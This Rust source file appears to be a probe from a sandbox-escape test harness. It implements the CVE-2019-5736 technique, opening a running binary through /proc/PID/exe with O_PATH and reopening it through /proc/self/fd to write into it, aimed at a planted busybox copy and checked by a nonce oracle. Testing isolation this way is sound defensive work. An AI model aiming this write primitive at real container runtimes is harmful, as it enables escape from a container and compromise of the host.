//! proc-self-exe: overwrite an executable through a /proc/PID/exe magic link (CVE-2019-5736).

use super::util::{
    arrange_err, arrangement, busybox, conclude, io_keep, parse_or_report, unsupported, Oracle,
};
use crate::world::{Planted, World};
use crate::{
    kv, Arrangement, InsideReport, Judgement, Layer, Limits, Probe, ProbeClass, ProbeError,
    ProbeMeta, RunObservation, Steps,
};
use std::fs;
use std::io::Write;
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Child, Command};
use std::time::{Duration, Instant};

/// What the inside appends to the executable, followed by the nonce.
pub const MARKER: &str = "breakout-proc-self-exe:";

/// How long the inside waits for its child to have exec'd the planted binary.
const EXEC_WAIT: Duration = Duration::from_secs(3);

static META: ProbeMeta = ProbeMeta {
    id: "proc-self-exe",
    title: "Overwrite an executable through /proc/PID/exe",
    technique: "/proc/PID/exe is a magic link to the file a process runs, usable even where the \
        file's path is not. The runc escape (CVE-2019-5736) opened it with O_PATH while the \
        binary ran, waited for the process to end (a running binary cannot be opened for \
        writing: ETXTBSY), then reopened the descriptor through /proc/self/fd for writing and \
        replaced the host's runc. The inside does the same to a copy of busybox the outside \
        planted under /usr (visible in a sandbox root) and appends a line instead of replacing \
        it. Read-only mounts (EROFS) and file ownership stop it.",
    oracle: "The planted executable, read by the outside after the attempt, ends with the \
        per-attempt nonce.",
    layers: &[
        Layer::FsHardening,
        Layer::MountNs,
        Layer::Uid,
        Layer::UserNs,
        Layer::Seccomp,
        Layer::Landlock,
    ],
    references: &[
        "CVE-2019-5736 (runc /proc/self/exe overwrite)",
        "runc: re-exec from a sealed memfd copy",
    ],
    class: ProbeClass::Plain,
};

pub struct ProcSelfExe;

struct State {
    _dir: Planted,
    exe: PathBuf,
    nonce: String,
}

/// The verdict on the executable's bytes after the attempt.
fn classify(content: &[u8], nonce: &str) -> Oracle {
    let needle = format!("{MARKER}{nonce}");
    let tail = &content[content.len().saturating_sub(4096)..];
    if !nonce.is_empty() && tail.windows(needle.len()).any(|w| w == needle.as_bytes()) {
        Oracle::Hit("the planted executable was written through its /proc/PID/exe link".into())
    } else {
        Oracle::Miss("the planted executable is unchanged".into())
    }
}

impl Probe for ProcSelfExe {
    fn meta(&self) -> &'static ProbeMeta {
        &META
    }

    fn arrange(&self, world: &World, _limits: &Limits) -> Result<Arrangement, ProbeError> {
        let id = META.id;
        let bb = busybox().ok_or_else(|| unsupported(id, "no static busybox in /bin"))?;
        let salt = world.fresh_secret().map_err(ProbeError::world(id))?;
        let nonce = salt[..16].to_string();
        let dir = world
            .shared_scratch_dir("proc-self-exe")
            .map_err(ProbeError::world(id))?;
        // busybox picks its applet from argv[0]: this copy is `sleep`.
        let exe = dir.path().join("sleep");
        fs::copy(&bb, &exe).map_err(|e| arrange_err(id, "copying busybox", e))?;
        fs::set_permissions(&exe, fs::Permissions::from_mode(0o755))
            .map_err(|e| arrange_err(id, "chmod 0755 of the executable", e))?;
        Ok(arrangement(
            vec![kv("exe", exe.display()), kv("nonce", &nonce)],
            State {
                _dir: dir,
                exe,
                nonce,
            },
        ))
    }

    fn attempt(&self, args: &[String]) -> InsideReport {
        let mut steps = Steps::new(META.id);
        if let Some((exe, nonce)) = parse_or_report(&mut steps, args, |a| {
            Ok((PathBuf::from(a.str("exe")?), a.str("nonce")?.to_string()))
        }) {
            attempt(&mut steps, &exe, &nonce);
        }
        steps.finish()
    }

    fn judge(&self, _world: &World, arrangement: Arrangement, run: &RunObservation) -> Judgement {
        let Some(state) = arrangement.state::<State>() else {
            return Judgement::inconclusive("proc-self-exe: arrangement state of the wrong type");
        };
        let oracle = match fs::read(&state.exe) {
            Ok(content) => classify(&content, &state.nonce),
            Err(e) => Oracle::Undecided(format!("reading {}: {e}", state.exe.display())),
        };
        conclude(oracle, run)
    }
}

/// The /proc/PID/exe link of a process that runs `exe`.
fn find_running(exe: &Path) -> Option<PathBuf> {
    fs::read_dir("/proc")
        .ok()?
        .flatten()
        .map(|e| e.path().join("exe"))
        .find(|link| fs::read_link(link).is_ok_and(|t| t == exe))
}

/// Kills and reaps the child on every path out of the attempt.
struct Reaped(Child);

impl Drop for Reaped {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn attempt(steps: &mut Steps, exe: &Path, nonce: &str) {
    let child = io_keep(
        steps,
        "run the target binary",
        format!("execve({} 30)", exe.display()),
        || Command::new(exe).arg("30").spawn(),
    );
    let Some(child) = child else { return };
    let child = Reaped(child);
    // The child's pid as we know it may not name it in the /proc we see (a pid namespace
    // without its own procfs): find it by the binary it runs instead.
    let deadline = Instant::now() + EXEC_WAIT;
    let link = loop {
        if let Some(link) = find_running(exe) {
            break link;
        }
        if Instant::now() >= deadline {
            steps.note(
                "find the target process",
                format!("no process running {} in /proc", exe.display()),
            );
            return;
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    let held = io_keep(
        steps,
        "hold the binary by its magic link",
        format!("open({}, O_PATH)", link.display()),
        || {
            fs::OpenOptions::new()
                .read(true)
                .custom_flags(libc::O_PATH)
                .open(&link)
                .map(OwnedFd::from)
        },
    );
    drop(child);
    let Some(held) = held else { return };
    let reopen = PathBuf::from(format!("/proc/self/fd/{}", held.as_raw_fd()));
    let writer = io_keep(
        steps,
        "reopen it for writing once it no longer runs",
        format!("open({}, O_WRONLY|O_APPEND)", reopen.display()),
        || fs::OpenOptions::new().append(true).open(&reopen),
    );
    if let Some(mut writer) = writer {
        steps.io("write into the binary", "write(exe fd, marker)", || {
            writer.write(format!("\n{MARKER}{nonce}\n").as_bytes())
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_the_appended_nonce_counts() {
        let mut bin = vec![0x7fu8, b'E', b'L', b'F'];
        bin.extend(vec![0u8; 10_000]);
        assert!(matches!(classify(&bin, "abc"), Oracle::Miss(_)));
        bin.extend(format!("\n{MARKER}abc\n").as_bytes());
        assert!(matches!(classify(&bin, "abc"), Oracle::Hit(_)));
        assert!(matches!(classify(&bin, "abd"), Oracle::Miss(_)));
        assert!(matches!(classify(&bin, ""), Oracle::Miss(_)));
    }

    #[test]
    fn bad_arguments_are_reported() {
        let report = ProcSelfExe.attempt(&["exe=/x".into()]);
        assert_eq!(report.steps[0].action, "parse arguments");
        assert!(report.steps[0].data.as_deref().unwrap().contains("nonce"));
    }
}
